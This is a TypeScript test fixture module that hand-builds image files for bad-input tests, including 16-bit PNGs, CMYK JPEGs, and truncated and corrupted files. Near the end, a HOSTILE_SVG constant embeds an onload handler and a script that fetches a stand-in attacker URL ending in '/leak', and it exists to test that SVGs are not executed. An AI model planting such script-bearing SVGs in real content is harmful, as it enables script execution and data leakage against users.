/**
 * Hand-made image files for the bad-input tests (Playwright and the CLI's Vitest test): formats
 * our encoders (jpeg-js, pngjs) do not write, built byte by byte so nothing is copied into the repo.
 */
import zlib from 'node:zlib';
import jpeg from 'jpeg-js';
import { PNG } from 'pngjs';

export type Rgb = [number, number, number];

/** A left/right two-colour 8-bit RGBA buffer. */
function twoColourRgba(width: number, height: number, left: Rgb, right: Rgb): Buffer {
  const data = Buffer.alloc(width * height * 4);
  for (let y = 0; y < height; y++)
    for (let x = 0; x < width; x++) {
      const c = x < width / 2 ? left : right;
      const o = (y * width + x) * 4;
      data[o] = c[0];
      data[o + 1] = c[1];
      data[o + 2] = c[2];
      data[o + 3] = 255;
    }
  return data;
}

export function jpegImage(width: number, height: number, left: Rgb = [220, 30, 30], right: Rgb = [30, 30, 220]): Buffer {
  return Buffer.from(jpeg.encode({ data: twoColourRgba(width, height, left, right), width, height }, 90).data);
}

export function pngImage(width: number, height: number, left: Rgb = [220, 30, 30], right: Rgb = [30, 30, 220]): Buffer {
  const png = new PNG({ width, height });
  twoColourRgba(width, height, left, right).copy(png.data);
  return PNG.sync.write(png);
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, body: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(body.length);
  const tb = Buffer.concat([Buffer.from(type, 'ascii'), body]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(tb));
  return Buffer.concat([len, tb, crc]);
}

/** A 16-bit-per-channel RGB PNG (colour type 2, bit depth 16); colours given as 16-bit values. */
export function png16(width: number, height: number, left: Rgb = [60000, 5000, 5000], right: Rgb = [5000, 5000, 60000]): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 16; // bit depth
  ihdr[9] = 2; // RGB
  const rowBytes = 1 + width * 6;
  const raw = Buffer.alloc(rowBytes * height);
  for (let y = 0; y < height; y++) {
    raw[y * rowBytes] = 0; // filter: none
    for (let x = 0; x < width; x++) {
      const c = x < width / 2 ? left : right;
      for (let k = 0; k < 3; k++) raw.writeUInt16BE(c[k], y * rowBytes + 1 + x * 6 + k * 2);
    }
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlib.deflateSync(raw)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Bit writer for JPEG entropy-coded data (with 0xFF byte stuffing). */
class BitWriter {
  private bytes: number[] = [];
  private acc = 0;
  private n = 0;
  put(value: number, bits: number): void {
    for (let i = bits - 1; i >= 0; i--) {
      this.acc = (this.acc << 1) | ((value >> i) & 1);
      if (++this.n === 8) this.flushByte();
    }
  }
  private flushByte(): void {
    this.bytes.push(this.acc);
    if (this.acc === 0xff) this.bytes.push(0);
    this.acc = 0;
    this.n = 0;
  }
  finish(): Buffer {
    while (this.n !== 0) this.put(1, 1);
    return Buffer.from(this.bytes);
  }
}

// the standard luminance DC table (ITU T.81 K.3): code lengths 2–9 for categories 0–11
const DC_BITS = [0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0];
const DC_CODES: [number, number][] = (() => {
  const out: [number, number][] = [];
  let code = 0;
  for (let len = 1; len <= 16; len++) {
    for (let i = 0; i < DC_BITS[len - 1]; i++) out.push([code++, len]);
    code <<= 1;
  }
  return out;
})();

function segment(marker: number, body: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff]);
  return Buffer.concat([head, body]);
}

/**
 * A baseline 4-component (CMYK) JPEG, Adobe APP14 with transform 0, as Photoshop writes print
 * files. Each 8×8 block is flat (DC only), so the entropy coding stays a few lines: left half
 * `left`, right half `right`, both given as the inks C, M, Y, K in 0–255 (Adobe stores them inverted).
 * Width and height must be multiples of 8.
 */
export function cmykJpeg(width: number, height: number, left: [number, number, number, number] = [0, 255, 255, 0], right: [number, number, number, number] = [255, 255, 0, 0]): Buffer {
  if (width % 8 || height % 8) throw new Error('cmykJpeg: width and height must be multiples of 8');
  const adobe = Buffer.concat([Buffer.from('Adobe', 'ascii'), Buffer.from([0x00, 0x64, 0, 0, 0, 0, 0])]);
  const dqt = Buffer.concat([Buffer.from([0x00]), Buffer.alloc(64, 8)]); // q = 8 everywhere: DC coefficient = mean − 128
  const sof = Buffer.from([8, height >> 8, height & 0xff, width >> 8, width & 0xff, 4, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0, 4, 0x11, 0]);
  const dht = Buffer.concat([
    Buffer.from([0x00, ...DC_BITS, ...Array.from({ length: 12 }, (_, i) => i)]),
    // AC table with one symbol, EOB (0x00), code "0"
    Buffer.from([0x10, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x00]),
  ]);
  const sos = Buffer.from([4, 1, 0x00, 2, 0x00, 3, 0x00, 4, 0x00, 0, 63, 0]);
  const bw = new BitWriter();
  const pred = [0, 0, 0, 0];
  for (let by = 0; by < height / 8; by++)
    for (let bx = 0; bx < width / 8; bx++) {
      const inks = bx * 8 < width / 2 ? left : right;
      for (let k = 0; k < 4; k++) {
        const dc = 255 - inks[k] - 128;
        const diff = dc - pred[k];
        pred[k] = dc;
        const mag = Math.abs(diff);
        const cat = mag === 0 ? 0 : Math.floor(Math.log2(mag)) + 1;
        const [code, len] = DC_CODES[cat];
        bw.put(code, len);
        if (cat > 0) bw.put(diff > 0 ? diff : diff + (1 << cat) - 1, cat);
        bw.put(0, 1); // EOB
      }
    }
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xee, adobe),
    segment(0xdb, dqt),
    segment(0xc0, sof),
    segment(0xc4, dht),
    segment(0xda, sos),
    bw.finish(),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** An SVG that would run script and fetch a remote resource if it were rendered as a document. */
export const HOSTILE_SVG = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" onload="window.__svgRan=1">
  <script>window.__svgRan = 1; fetch('https://attacker.example.test/leak');</script>
  <rect width="32" height="48" fill="#d22"/><rect x="32" width="32" height="48" fill="#22d"/>
  <image href="https://attacker.example.test/pixel.png" width="1" height="1"/>
</svg>`,
  'utf8',
);

/** The first `fraction` of a file, as an interrupted download leaves it. */
export function truncated(buf: Buffer, fraction = 0.5): Buffer {
  return buf.subarray(0, Math.max(1, Math.floor(buf.length * fraction)));
}

/** Overwrites bytes in the middle of a file (the header stays valid). */
export function corrupted(buf: Buffer): Buffer {
  const out = Buffer.from(buf);
  for (let i = Math.floor(out.length / 3); i < out.length - 2; i += 5) out[i] = (out[i] * 31 + 7) & 0xff;
  return out;
}
